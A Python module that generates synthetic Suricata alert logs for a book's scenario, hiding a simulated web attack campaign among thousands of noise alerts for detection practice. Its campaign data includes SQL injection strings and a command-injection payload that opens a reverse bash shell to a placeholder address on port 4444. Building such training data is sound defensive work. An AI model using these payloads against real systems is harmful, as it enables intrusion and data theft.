"""Seeded Suricata EVE JSON for Scenario 2 of the book: one web attack campaign in ~4,500 alerts.

The campaign (``seed/SCENARIOS.md``): attacker 185.220.101.45 against web server 10.1.50.25
over 20 minutes, seen by two sensors (``suricata-dmz`` in front of the web server,
``suricata-edge`` on the internet uplink):

====== ================================================= =========== =======================
minute alert                                             book / EVE  direction
====== ================================================= =========== =======================
0, 2   ET SCAN Nikto Web App Scan in Progress (x2)       2/4 -> 3    attacker -> web server
5-9    ET WEB_SERVER Possible SQL Injection ... (x3)     3/4 -> 2    attacker -> web server
12     ET WEB_SERVER Possible Command Injection ...      4/4 -> 1    attacker -> web server
14     ET POLICY Outbound Connection to ... Port 4444    3/4 -> 2    web server -> 203.0.113.66
16, 19 ET POLICY Large Outbound Data Transfer (x2)       3/4 -> 2    web server -> 203.0.113.66
====== ================================================= =========== =======================

The book's severities (4 = most severe) become Suricata's (1 = most severe) as ``5 - book``.
The SQL injections carry ``' OR '1'='1`` in ``http.url`` (URL-encoded) and in
``payload_printable``; the command injection carries ``;/bin/bash``.

Around it, 4,491 noise alerts (total 4,500) from 35 minutes before to 45 minutes after the
campaign start, all Suricata severity 3 (low): a few signatures repeated hundreds to
thousands of times (APT user agents, TCP stream anomalies, ``.cloud`` DNS lookups, STUN,
internet-wide VNC scanning from ~250 sources, one alert each), and a tail of 20 ET POLICY/INFO
signatures with a handful of alerts each. Noise touches the web server (it runs apt; scanners
probe it) but never the attacker or the C2 address.

Output is deterministic for a seed: randomness comes from ``random.Random(seed)`` and the
default clock is :data:`DEFAULT_NOW` (2026-01-18 16:30 UTC), never the wall clock. Lines are
sorted by time.
"""

from __future__ import annotations

import ipaddress
import json
import os
import random
from datetime import datetime, timedelta
from typing import Any

from .firewall import DEFAULT_NOW

__all__ = [
    "ATTACKER",
    "C2_SERVER",
    "CAMPAIGN_ALERTS",
    "DEFAULT_NOW",
    "TOTAL_ALERTS",
    "VICTIM",
    "scenario_2",
    "write_scenario_2",
]

ATTACKER = "185.220.101.45"
VICTIM = "10.1.50.25"
C2_SERVER = "203.0.113.66"
CAMPAIGN_ALERTS = 9
TOTAL_ALERTS = 4500

_SQLI = "ET WEB_SERVER Possible SQL Injection Attempt (OR 1=1)"
_WEB_ATTACK = "Web Application Attack"
_BAD = "Potentially Bad Traffic"
# (minute, signature, sid, category, EVE severity, outbound, url, payload)
_CAMPAIGN = (
    (0.0, "ET SCAN Nikto Web App Scan in Progress", 2002677, _WEB_ATTACK, 3, False,
     "/cgi-bin/test-cgi", "GET /cgi-bin/test-cgi HTTP/1.1"),
    (2.0, "ET SCAN Nikto Web App Scan in Progress", 2002677, _WEB_ATTACK, 3, False,
     "/admin/config.php.bak", "GET /admin/config.php.bak HTTP/1.1"),
    (5.0, _SQLI, 2010963, _WEB_ATTACK, 2, False,
     "/products.php?id=1%27%20OR%20%271%27%3D%271", "GET /products.php?id=1' OR '1'='1"),
    (7.0, _SQLI, 2010963, _WEB_ATTACK, 2, False,
     "/login.php?user=admin%27%20OR%20%271%27%3D%271--", "GET /login.php?user=admin' OR '1'='1--"),
    (9.0, _SQLI, 2010963, _WEB_ATTACK, 2, False,
     "/search.php?q=x%27%20OR%20%271%27%3D%271%20UNION%20SELECT%20user,pass%20FROM%20users",
     "GET /search.php?q=x' OR '1'='1 UNION SELECT user,pass FROM users"),
    (12.0, "ET WEB_SERVER Possible Command Injection Attempt (;/bin/bash)", 2019284,
     "Attempted Administrator Privilege Gain", 1, False,
     "/tools/ping.php?host=127.0.0.1;/bin/bash%20-i",
     "GET /tools/ping.php?host=127.0.0.1;/bin/bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"),
    (14.0, "ET POLICY Outbound Connection to Suspicious Non-Standard Port 4444", 2027001, _BAD,
     2, True, None, None),
    (16.0, "ET POLICY Large Outbound Data Transfer", 2027002, "Potential Corporate Privacy "
     "Violation", 2, True, None, None),
    (19.0, "ET POLICY Large Outbound Data Transfer", 2027002, "Potential Corporate Privacy "
     "Violation", 2, True, None, None),
)  # fmt: skip

# (signature, sid, category, count): the bulk of the noise.
_FLOODS = (
    ("ET POLICY GNU/Linux APT User-Agent Outbound likely related to package management",
     2013504, "Not Suspicious Traffic", 1500),
    ("SURICATA STREAM ESTABLISHED packet out of window", 2210020,
     "Generic Protocol Command Decode", 1250),
    ("ET INFO Observed DNS Query to .cloud TLD", 2027865, "Potentially Bad Traffic", 700),
    ("ET INFO Session Traversal Utilities for NAT (STUN Binding Request)", 2016149,
     "Misc activity", 420),
)  # fmt: skip
_SCAN = ("ET SCAN Potential VNC Scan 5900-5920", 2002911, "Attempted Information Leak", 250)
_TAIL = (
    "ET POLICY Dropbox.com Offsite File Backup in Use",
    "ET INFO TLS Handshake Failure",
    "ET POLICY curl User-Agent Outbound",
    "ET INFO Windows OS Submitting USB Metadata to Microsoft",
    "ET POLICY Spotify P2P Client",
    "ET INFO Observed Discord Domain in DNS Lookup",
    "ET POLICY OpenVPN Update Check",
    "ET INFO Python-urllib/ Suspicious User Agent",
    "ET POLICY Microsoft Online Storage Client Hello TLS SNI",
    "ET INFO HTTP Request to a .top domain",
    "ET POLICY IP Check Domain (whatismyip in HTTP Host)",
    "ET INFO DYNAMIC_DNS Query to *.ddns .net",
    "ET POLICY TeamViewer Keep-alive outbound",
    "ET INFO Android Device Connectivity Check",
    "ET INFO SSH-2.0-Go version string Observed",
    "ET INFO Executable Download from dotted-quad Host",
    "ET POLICY Outdated Flash Version M1",
    "ET INFO JAVA - Java Archive Download By Vulnerable Client",
    "ET POLICY Google Drive Upload",
    "ET INFO NTP Mode 6 Query",
)
_MIRRORS = ("91.189.91.38", "91.189.91.39", "185.125.190.36")
_RESOLVER = "10.1.1.53"


def _when(ts: datetime) -> str:
    return ts.strftime("%Y-%m-%dT%H:%M:%S.%f") + "+0000"


def _record(
    ts: datetime,
    src: tuple[str, int],
    dst: tuple[str, int],
    alert: dict[str, Any],
    sensor: str,
    flow_id: int,
) -> dict[str, Any]:
    return {
        "timestamp": _when(ts), "flow_id": flow_id, "in_iface": "eth1", "event_type": "alert",
        "src_ip": src[0], "src_port": src[1], "dest_ip": dst[0], "dest_port": dst[1],
        "proto": "TCP" if dst[1] != 53 else "UDP",
        "alert": {"action": "allowed", "gid": 1, "rev": 3, **alert}, "host": sensor,
    }  # fmt: skip


def _alert(signature: str, sid: int, category: str, severity: int) -> dict[str, Any]:
    return {"signature_id": sid, "signature": signature, "category": category,
            "severity": severity}  # fmt: skip


def _campaign(start: datetime, rng: random.Random) -> list[tuple[datetime, dict[str, Any]]]:
    out = []
    for minute, sig, sid, category, severity, outbound, url, payload in _CAMPAIGN:
        ts = start + timedelta(minutes=minute, seconds=rng.uniform(0, 50))
        if outbound:
            port = 4444 if "4444" in sig else 443
            src, dst = (VICTIM, rng.randint(40000, 60999)), (C2_SERVER, port)
            sensor = "suricata-edge"
        else:
            src, dst = (ATTACKER, rng.randint(32768, 60999)), (VICTIM, 80)
            sensor = "suricata-dmz"
        record = _record(ts, src, dst, _alert(sig, sid, category, severity), sensor,
                         rng.getrandbits(50))  # fmt: skip
        if url and payload:
            record["http"] = {"hostname": "shop.example.com", "url": url, "http_method": "GET",
                              "http_user_agent": "Mozilla/5.00 (Nikto/2.1.6)" if "Nikto" in sig
                              else "Mozilla/5.0 (X11; Linux x86_64)", "status": 200}  # fmt: skip
            record["payload_printable"] = payload + "\r\nHost: shop.example.com\r\n\r\n"
        if "Large" in sig:
            record["flow"] = {"bytes_toserver": rng.randint(180, 420) * 1_000_000,
                              "bytes_toclient": rng.randint(20_000, 90_000)}  # fmt: skip
        out.append((ts, record))
    return out


def _public_ip(rng: random.Random) -> str:
    while True:
        address = str(ipaddress.IPv4Address(rng.randint(0x01000000, 0xDFFFFFFF)))
        if ipaddress.ip_address(address).is_global and address not in (ATTACKER, C2_SERVER):
            return address


def _internal(rng: random.Random) -> str:
    return f"10.1.{rng.choice((10, 11, 20, 21, 30, 50))}.{rng.randint(2, 250)}"


def _noise_pair(kind: str, rng: random.Random) -> tuple[tuple[str, int], tuple[str, int], str]:
    eph = rng.randint(32768, 60999)
    if kind == "apt":
        host = VICTIM if rng.random() < 0.05 else _internal(rng)
        return (host, eph), (rng.choice(_MIRRORS), 80), "suricata-core"
    if kind == "dns":
        return (_internal(rng), eph), (_RESOLVER, 53), "suricata-core"
    if kind == "scan":
        target = VICTIM if rng.random() < 0.1 else f"10.1.50.{rng.randint(2, 60)}"
        return (_public_ip(rng), eph), (target, rng.randint(5900, 5920)), "suricata-edge"
    return (
        (_internal(rng), eph),
        (_public_ip(rng), rng.choice((443, 80, 3478, 8080))),
        ("suricata-core"),
    )


def _noise(
    start: datetime, rng: random.Random, count: int
) -> list[tuple[datetime, dict[str, Any]]]:
    kinds = ("apt", "stream", "dns", "stun")
    plan = [(*flood, kind) for flood, kind in zip(_FLOODS, kinds, strict=True)]
    plan.append((*_SCAN, "scan"))
    rest = count - sum(item[3] for item in plan)
    weights = [rng.randint(3, 12) for _ in _TAIL]
    tail = [max(1, round(rest * w / sum(weights))) for w in weights]
    tail[-1] += rest - sum(tail)
    plan += [(sig, 2030000 + i, "Misc activity", n, "misc") for i, (sig, n) in
             enumerate(zip(_TAIL, tail, strict=True))]  # fmt: skip
    out = []
    for sig, sid, category, n, kind in plan:
        for _ in range(n):
            ts = start + timedelta(seconds=rng.uniform(-35 * 60, 45 * 60))
            src, dst, sensor = _noise_pair(kind, rng)
            alert = _alert(sig, sid, category, 3)
            record = _record(ts, src, dst, alert, sensor, rng.getrandbits(50))
            if kind == "dns":
                record["dns"] = {"query": [{"rrname": f"cdn{rng.randint(1, 40)}.files.cloud"}]}
            out.append((ts, record))
    return out


def scenario_2(seed: int = 7, now: datetime | None = None) -> list[str]:
    """Scenario 2 as Suricata EVE JSON lines (:data:`TOTAL_ALERTS` alerts, sorted by time).

    Args:
        seed: Random seed; the same seed gives the same lines.
        now: Reference time; the campaign starts 90 minutes before it (default
            :data:`DEFAULT_NOW`).
    """
    rng = random.Random(seed)
    start = (now or DEFAULT_NOW) - timedelta(minutes=90)
    events = _campaign(start, rng) + _noise(start, rng, TOTAL_ALERTS - CAMPAIGN_ALERTS)
    events.sort(key=lambda item: (item[0], item[1]["flow_id"]))
    return [json.dumps(record, separators=(",", ":")) for _, record in events]


def write_scenario_2(path: str | os.PathLike[str], seed: int = 7) -> int:
    """Write :func:`scenario_2` to ``path`` (one JSON object per line); returns the count."""
    lines = scenario_2(seed)
    with open(path, "w", encoding="utf-8") as fh:
        fh.write("\n".join(lines) + "\n")
    return len(lines)
